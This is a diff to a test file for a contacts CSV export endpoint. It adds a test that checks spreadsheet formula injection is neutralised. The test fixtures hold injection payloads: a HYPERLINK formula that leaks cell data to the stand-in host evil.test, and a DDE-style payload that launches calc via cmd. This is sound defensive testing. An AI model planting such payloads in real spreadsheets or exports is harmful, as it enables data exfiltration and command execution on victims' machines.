@@ -1,4 +1,4 @@
-import { CONTACT_CSV_COLUMNS, parseCsv } from '@grouptrack/domain';
+import { CONTACT_CSV_COLUMNS, parseCsv, restoreFormula } from '@grouptrack/domain';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { startTestServer, type TestServer } from '../../testing/test-server';
 import type { TestClient } from '../../testing/test-client';
@@ -61,7 +61,8 @@ describe('POST /api/v1/teams/:teamUID/contacts/export', () => {
     expect(zoe).toHaveLength(2);
     const inMain = zoe.find((row) => column(row, 'Pipeline') === 'Main')!;
     expect(column(inMain, 'Last Name')).toBe('Müller, Jr.');
-    expect(column(inMain, 'Phone')).toBe('+15550101234');
+    // Neutralised against spreadsheet formulas; our import reads it back as +15550101234.
+    expect(column(inMain, 'Phone')).toBe("'+15550101234");
     expect(column(inMain, 'Facebook Profile ID')).toBe('123');
     expect(column(inMain, 'Stage')).toBe('Won');
     expect(column(inMain, 'Global Tags')).toBe('Interests: Fitness');
@@ -72,6 +73,36 @@ describe('POST /api/v1/teams/:teamUID/contacts/export', () => {
     expect(zoe.some((row) => column(row, 'Pipeline') === 'Side, "quoted"')).toBe(true);
     const lonely = rows.find((row) => column(row, 'Full Name') === 'No Pipeline Person')!;
     expect(column(lonely, 'Pipeline')).toBe('');
+  });
+
+  it('neutralises every cell a spreadsheet would run as a formula, and only those', async () => {
+    const base = `/api/v1/teams/${teamUID}`;
+    const payloads = {
+      firstName: '=HYPERLINK("http://evil.test/?"&A1,"Open")',
+      lastName: "@SUM(1+1)*cmd|' /C calc'!A0",
+      name: '-2+3 Trouble',
+      phoneNumber: '+44 20 7946 0999',
+    };
+    const tagSet = (await owner.post(`${base}/tag-sets`, { name: '+Leads', tags: ['=hot'] })).body.data;
+    await owner.post(`${base}/contacts`, {
+      ...payloads,
+      emailAddress: 'formula@example.test',
+      tagIds: [tagSet.tags[0].tagUID],
+    });
+    const body = (await owner.post(`${base}/contacts/export`, { searchObj: 'formula@example.test' }))
+      .body as string;
+    const [, row] = parseCsv(body);
+    const column = (name: (typeof CONTACT_CSV_COLUMNS)[number]) => row![CONTACT_CSV_COLUMNS.indexOf(name)]!;
+    expect(column('First Name')).toBe(`'${payloads.firstName}`);
+    expect(column('Last Name')).toBe(`'${payloads.lastName}`);
+    expect(column('Full Name')).toBe(`'${payloads.name}`);
+    expect(column('Phone')).toBe("'+442079460999");
+    expect(column('Email')).toBe('formula@example.test');
+    expect(column('Global Tags')).toBe("'+Leads: =hot");
+    // Written quoted, so the quote and the text stay one cell in any reader.
+    expect(body).toContain(`"'+442079460999"`);
+    for (const cell of row!) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    expect(restoreFormula(column('Full Name'))).toBe(payloads.name);
   });
 
   it('answers 401 signed out, 404 to another team and 400 for a bad filter', async () => {
